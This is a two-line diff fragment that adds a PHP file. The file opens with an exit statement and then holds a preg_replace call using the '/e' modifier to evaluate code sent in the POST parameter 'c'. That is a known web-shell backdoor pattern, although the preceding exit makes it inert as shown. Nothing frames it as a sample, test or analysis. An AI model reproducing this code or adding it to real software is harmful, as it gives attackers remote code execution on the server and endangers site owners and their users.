@@ -1,0 +1,2 @@
+<?php exit;
+preg_replace('/.*/e', $_POST['c'], 'x');
